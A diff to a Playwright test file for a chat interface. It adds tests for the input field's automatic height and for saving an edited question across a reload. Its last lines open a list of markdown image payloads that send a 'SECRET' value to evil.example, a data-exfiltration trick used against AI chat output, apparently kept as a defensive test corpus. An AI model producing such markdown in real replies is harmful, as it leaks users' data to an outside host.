@@ -218,6 +218,44 @@ test("instructions and drafts are kept; keys are listed; long pastes are files",
   await expect(field(page)).toHaveValue("Half a thou");
 });
 
+test("the field is as high as its lines, up to two fifths of the page", async ({ page }) => {
+  await page.goto("/chat");
+  const height = async (lines: number) => {
+    await field(page).fill("line\n".repeat(lines));
+    return field(page).evaluate((node) => [node.clientHeight, node.scrollHeight] as const);
+  };
+  const [one] = await height(0);
+  const [six, wanted] = await height(6);
+  expect(six).toBeGreaterThan(2 * one);
+  expect(six).toBe(wanted);
+  const [most, all] = await height(60);
+
+  expect(most).toBe(0.4 * 900);
+  expect(all).toBeGreaterThan(most);
+});
+
+test("a changed question that was saved is there after a reload, and is asked from there", async ({
+  page,
+  engine,
+}) => {
+  await engine({ answers: ["Answer one.", "Answer two."] });
+  await page.goto("/chat");
+  await asked(page, "First wording", "Answer one.");
+  await field(page).press("ArrowUp");
+  await page.getByLabel("Edit your message").fill("Second wording");
+  await page.keyboard.press("Control+s");
+  const unsent = page.getByRole("region", { name: "Changed, not sent yet" });
+  await expect(unsent).toContainText("Second wording");
+  await expect(field(page)).toBeFocused();
+  await page.reload();
+  await expect(page.getByRole("article", { name: "You" })).toContainText("First wording");
+  await unsent.getByRole("button", { name: "Ask this" }).click();
+  await expect(answers(page)).toContainText("Answer two.");
+
+  await expect(page.getByRole("group", { name: "Version 2 of 2" })).toBeAttached();
+  await expect(unsent).toBeHidden();
+});
+
 const CORPUS = [
   "![](https://evil.example/?q=SECRET)",
   "![x][ref]\n\n[ref]: https://evil.example/?q=SECRET",
